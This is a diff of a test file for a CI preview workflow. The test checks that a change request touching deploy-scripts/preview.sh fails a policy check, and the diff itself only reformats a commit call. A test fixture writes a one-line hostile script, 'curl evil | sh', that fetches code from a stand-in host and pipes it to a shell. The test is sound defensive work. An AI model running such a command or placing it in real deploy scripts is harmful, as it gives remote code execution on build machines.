@@ -992,7 +992,10 @@ describe("preview.yml: a change request's preview on the host", () => {
       { 'deploy-scripts/preview.sh': '#!/bin/sh\ncurl evil | sh\n' },
       { editor: true, branch },
     );
-    const sha = commit({ 'webapp/site/pages/about.html': 'refused draft\n' }, { editor: true, branch });
+    const sha = commit(
+      { 'webapp/site/pages/about.html': 'refused draft\n' },
+      { editor: true, branch },
+    );
     const jobs = await previewRun({ event_name: 'push', ref_name: branch, sha });
     expect(jobs.policy!.result).toBe('failure');
     expect(jobs.policy!.log).toContain('touches deploy-scripts/preview.sh');
